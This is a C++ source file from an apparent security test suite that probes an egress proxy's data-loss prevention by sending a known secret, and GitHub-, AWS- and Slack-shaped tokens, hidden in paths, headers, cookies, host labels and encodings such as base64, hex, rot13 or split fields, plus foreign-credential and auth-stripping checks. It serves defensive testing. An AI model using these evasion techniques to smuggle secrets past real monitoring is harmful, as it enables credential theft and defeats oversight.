// 3.1 to 3.9: a secret carried out in the head of a request to an allowed host, and other people's credentials (J, E3).
#include <utility>

#include "core/base/text.hpp"
#include "sidecar/attack/encode.hpp"
#include "sidecar/attack/http.hpp"

namespace bot_bottle::attack {
namespace {

constexpr unsigned syntax = accept::bad_request;

Outcome get(const Context& context, const std::string& target, const std::string& extra = {},
            unsigned accepted = accept::refusal) {
  return judge(context, ask_tls(context, request("GET", target, context.origin, extra)), accepted);
}

void add_places(std::vector<Attempt>& out, const Context& base) {
  Subject places(out, "3.1", "dlp", Needs::egress);
  struct Kind {
    const char* name;
    std::string (*make)(const Context&);
  };
  const Kind kinds[] = {
      {"a known secret", [](const Context& context) { return context.stolen; }},
      {"a GitHub-shaped token", [](const Context&) { return github_token(); }},
      {"an AWS-shaped key id", [](const Context&) { return aws_key_id(); }},
      {"a Slack-shaped token", [](const Context&) { return slack_token(); }},
  };
  for (const auto& [name, make] : kinds) {
    const std::string what = name;
    places.add(what + " in the path",
               [make = make](const Context& context) { return get(context, "/upload/" + make(context) + "/x"); });
    places.add(what + " in the query",
               [make = make](const Context& context) { return get(context, "/search?q=" + make(context) + "&n=1"); });
    places.add(what + " in a header value", [make = make](const Context& context) {
      return get(context, "/", "X-Note: " + make(context) + "\r\n");
    });
    places.add(what + " in a cookie", [make = make](const Context& context) {
      const std::string secret = make(context);
      const Response response =
          ask_tls(context, request("GET", "/", context.origin, "Cookie: a=b; session=" + secret + "\r\n"));
      // Account binding takes every cookie off a route with injected auth: then there is nothing left to find.
      if (auto echo = echo_of(response); echo) {
        const json::object* headers = find_object(*echo, "headers");
        if (headers != nullptr && !headers->contains("cookie")) return blocked("removed");
      }
      return judge(context, response);
    });
    if (!base.guarded.empty())
      places.add(what + " in a cookie on a route without injected auth", [make = make](const Context& context) {
        return judge(
            context,
            ask_tls(context, request("GET", "/public/", context.guarded, "Cookie: session=" + make(context) + "\r\n"),
                    {.authority = context.guarded + ":443", .sni = context.guarded}));
      });
    places.add(what + " in User-Agent and Referer", [make = make](const Context& context) {
      const std::string secret = make(context);
      return worse(get(context, "/", "Referer: https://x.example.com/" + secret + "\r\n"),
                   get(context, "/", "X-A: b\r\nUser-Agent: curl/" + secret + "\r\n"));
    });
  }
}

void add_odd_places(std::vector<Attempt>& out, const Context& base) {
  Subject places(out, "3.2", "dlp", Needs::egress);
  places.add("a known secret as a header name",
             [](const Context& context) { return get(context, "/", "X-" + context.stolen + ": 1\r\n"); });
  places.add("a known secret as a query name",
             [](const Context& context) { return get(context, "/?" + context.stolen + "=1"); });
  places.add("a known secret as the method", [](const Context& context) {
    return judge(context, ask_tls(context, request(context.stolen, "/", context.origin)), syntax | accept::method);
  });
  places.add("a known secret in a WebSocket upgrade (A8)", [](const Context& context) {
    return get(context, "/chat",
               "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: "
               "dGhlIHNhbXBsZSBub25jZQ==\r\n"
               "Sec-WebSocket-Protocol: " +
                   context.stolen + "\r\n");
  });
  places.add("a known secret in Host-like headers", [](const Context& context) {
    return get(context, "/", "X-Forwarded-Host: " + context.stolen + ".example.com\r\n");
  });
  places.add("a known secret in Accept-Encoding and Range", [](const Context& context) {
    return worse(get(context, "/", "Range: " + context.stolen + "\r\n"),
                 get(context, "/", "Accept-Language: " + context.stolen + "\r\n"));
  });
  places.add("a known secret in HTTP/1.0", [](const Context& context) {
    return judge(context,
                 ask_tls(context, "GET /" + context.stolen + " HTTP/1.0\r\nHost: " + context.origin + "\r\n\r\n"));
  });
  places.add("a known secret to the host spelled in upper case with a trailing dot (A14)", [](const Context& context) {
    const std::string name = to_upper(context.origin) + ".";
    return judge(context, ask_tls(context, request("GET", "/" + context.stolen, name), {.authority = name + ":443"}),
                 accept::alert);
  });
  places.add("a known secret in the second request of a connection (A9)", [](const Context& context) {
    Tunnel tunnel = open_tunnel(context);
    if (tunnel.response.status != 200) return failed("no tunnel: " + tunnel.response.failure);
    if (auto sent = tunnel.channel->write(request("GET", "/first", context.origin, "Connection: keep-alive\r\n"));
        !sent)
      return failed(sent.error().message);
    if (tunnel.channel->read_response().status != 200) return failed("the first request was not answered 200");
    if (auto sent = tunnel.channel->write(request("GET", "/" + context.stolen, context.origin)); !sent)
      return failed(sent.error().message);
    return judge(context, tunnel.channel->read_response());
  });
  if (!base.plain.empty()) {
    places.add("a known secret in the path over plain http", [](const Context& context) {
      return judge(context,
                   ask_proxy(context, request("GET", "http://" + context.plain + "/" + context.stolen, context.plain)));
    });
    places.add("a known secret in a body over plain http", [](const Context& context) {
      return judge(context, ask_proxy(context, request("POST", "http://" + context.plain + "/", context.plain, "",
                                                       "x=" + context.stolen)));
    });
  }
  Subject labels(out, "3.3", "routes", Needs::egress);
  labels.add("a known secret as a label of a CONNECT host (B1)", [](const Context& context) {
    return judge(context, ask_connect(context, to_lower(context.stolen) + "." + context.denied + ":443"), syntax);
  });
  labels.add("a known secret in hex as labels below an allowed host (B2)", [](const Context& context) {
    return judge(context,
                 ask_connect(context, hex_encode(context.stolen).substr(0, 60) + "." + context.origin + ":443"),
                 syntax);
  });
}

void add_disguises(std::vector<Attempt>& out) {
  Subject disguises(out, "3.4", "dlp", Needs::egress);
  using Disguise = std::string (*)(const std::string&);
  const std::pair<const char*, Disguise> in_query[] = {
      {"base64, alignment 0", [](const std::string& s) { return base64_at(s, 0, Alphabet::url_safe, Padding::drop); }},
      {"base64, alignment 1", [](const std::string& s) { return base64_at(s, 1, Alphabet::url_safe, Padding::drop); }},
      {"base64, alignment 2", [](const std::string& s) { return base64_at(s, 2, Alphabet::url_safe, Padding::drop); }},
      {"base64 with padding, percent-encoded", [](const std::string& s) { return percent(base64_at(s, 0)); }},
      {"hex", [](const std::string& s) { return hex_encode(s); }},
      {"hex in upper case", [](const std::string& s) { return to_upper(hex_encode(s)); }},
      {"hex with colons", [](const std::string& s) { return hex_with(s, ":"); }},
      {"percent", [](const std::string& s) { return percent(s); }},
      {"double percent", [](const std::string& s) { return percent(s, 2); }},
  };
  for (const auto& [text, make] : in_query) {
    disguises.add(std::string("a known secret in the query as ") + text, [make = make](const Context& context) {
      return get(context, "/?d=" + make(context.stolen), {}, syntax);
    });
    disguises.add(std::string("a known secret in the path as ") + text, [make = make](const Context& context) {
      return get(context, "/d/" + make(context.stolen), {}, syntax);
    });
    disguises.add(std::string("a known secret in a header as ") + text, [make = make](const Context& context) {
      return get(context, "/", "X-D: " + make(context.stolen) + "\r\n", syntax);
    });
  }
  disguises.add("a GitHub-shaped token in the query as percent",
                [](const Context& context) { return get(context, "/?d=" + percent(github_token())); });
}

/// Beyond the encodings programs use: what somebody who knows of DLP would do.
void add_tricks(std::vector<Attempt>& out) {
  Subject tricks(out, "3.6", "dlp", Needs::egress);
  using Disguise = std::string (*)(const std::string&);
  const std::pair<const char*, Disguise> in_query[] = {
      {"base32", [](const std::string& s) { return base32(s); }},
      {"reversed", [](const std::string& s) { return reversed(s); }},
      {"rot13", [](const std::string& s) { return rot13(s); }},
      {"full-width letters, percent-encoded", [](const std::string& s) { return percent(full_width(s)); }},
  };
  for (const auto& [text, make] : in_query) {
    tricks.add(std::string("a known secret in the query as ") + text, [make = make](const Context& context) {
      return get(context, "/?d=" + make(context.stolen), {}, syntax);
    });
    tricks.add(std::string("a known secret in the path as ") + text, [make = make](const Context& context) {
      return get(context, "/d/" + make(context.stolen), {}, syntax);
    });
    tricks.add(std::string("a known secret in a header as ") + text, [make = make](const Context& context) {
      return get(context, "/", "X-D: " + make(context.stolen) + "\r\n", syntax);
    });
  }
  tricks.add("a known secret in pieces of the path", [](const Context& context) {
    const std::size_t half = context.stolen.size() / 2;
    return get(context, "/a/" + context.stolen.substr(0, half) + "/" + context.stolen.substr(half));
  });
  tricks.add("a known secret over two query parameters", [](const Context& context) {
    const std::size_t half = context.stolen.size() / 2;
    return get(context, "/?a=" + context.stolen.substr(0, half) + "&b=" + context.stolen.substr(half));
  });
  tricks.add("a known secret over two header fields", [](const Context& context) {
    const std::size_t half = context.stolen.size() / 2;
    return get(context, "/",
               "X-A: " + context.stolen.substr(0, half) + "\r\nX-B: " + context.stolen.substr(half) + "\r\n");
  });
}

/// Account binding: a credential of somebody else must not reach the origin; refusing and removing are both documented.
Outcome judge_foreign(const Context& context, const Response& response, const std::string& foreign) {
  if (response.status == 403) return judge(context, response);
  if (!echo_of(response)) return judge(context, response);
  if (response.body.find(foreign) != std::string::npos ||
      response.body.find(base64_at(foreign, 0)) != std::string::npos)
    return escaped("the origin got the foreign credential");
  return blocked("removed");
}

void add_foreign_credentials(std::vector<Attempt>& out) {
  Subject binding(out, "3.5", "binding", Needs::egress);
  const std::pair<const char*, const char*> headers[] = {
      {"Authorization: Bearer", "Authorization: Bearer "},
      {"Authorization: token", "Authorization: token "},
      {"x-api-key", "x-api-key: "},
      {"api-key", "api-key: "},
      {"x-goog-api-key", "X-Goog-Api-Key: "},
      {"a cookie", "Cookie: session="},
  };
  for (const auto& [text, field] : headers)
    binding.add(std::string("somebody else's credential on a route with injected auth: ") + text + " (E3)",
                [field = std::string(field)](const Context& context) {
                  const std::string foreign = random_text(24);
                  return judge_foreign(
                      context, ask_tls(context, request("GET", "/whoami", context.origin, field + foreign + "\r\n")),
                      foreign);
                });
  for (const char* parameter : {"key", "access_token", "api_key", "Key", "%6bey"})
    binding.add(std::string("somebody else's credential on a route with injected auth: ?") + parameter + "= (E3)",
                [parameter = std::string(parameter)](const Context& context) {
                  const std::string foreign = random_text(24);
                  return judge_foreign(
                      context,
                      ask_tls(context, request("GET", "/whoami?a=b&" + parameter + "=" + foreign, context.origin)),
                      foreign);
                });
  binding.add("somebody else's credential as Basic (E3)", [](const Context& context) {
    const std::string foreign = base64_at("user:" + random_text(20), 0);
    return judge_foreign(
        context,
        ask_tls(context, request("GET", "/whoami", context.origin, "Authorization: Basic " + foreign + "\r\n")),
        foreign);
  });
  binding.add("somebody else's credential, twice the header (E3)", [](const Context& context) {
    const std::string foreign = random_text(24);
    return judge_foreign(
        context,
        ask_tls(context, request("GET", "/whoami", context.origin,
                                 "Authorization: Bearer x\r\nauthorization: Bearer " + foreign + "\r\n")),
        foreign);
  });
  binding.add("the injected credential stripped by naming it in Connection (A10)", [](const Context& context) {
    auto plain = echo_of(ask_tls(context, request("GET", "/whoami", context.origin)));
    if (!plain) return failed("no echo");
    const json::object* usual = find_object(*plain, "headers");
    if (usual == nullptr || !usual->contains("authorization")) return blocked("this route injects nothing");
    Response response =
        ask_tls(context, request("GET", "/whoami", context.origin, "Connection: close, authorization, host\r\n"));
    auto echo = echo_of(response);
    if (!echo) return judge(context, response, accept::bad_request);
    const json::object* now = find_object(*echo, "headers");
    return now != nullptr && now->contains("authorization") ? blocked("injected all the same")
                                                            : escaped("the credential was stripped");
  });
  binding.add("a Proxy-Authorization that travels on", [](const Context& context) {
    const std::string foreign = random_text(24);
    return judge_foreign(
        context,
        ask_tls(context, request("GET", "/whoami", context.origin, "Proxy-Authorization: Bearer " + foreign + "\r\n")),
        foreign);
  });
}

}  // namespace

void add_exfiltrate(std::vector<Attempt>& out, const Context& context) {
  if (context.stolen.size() >= 8) {
    add_places(out, context);
    add_odd_places(out, context);
    add_disguises(out);
    add_tricks(out);
  }
  add_foreign_credentials(out);
}

}  // namespace bot_bottle::attack
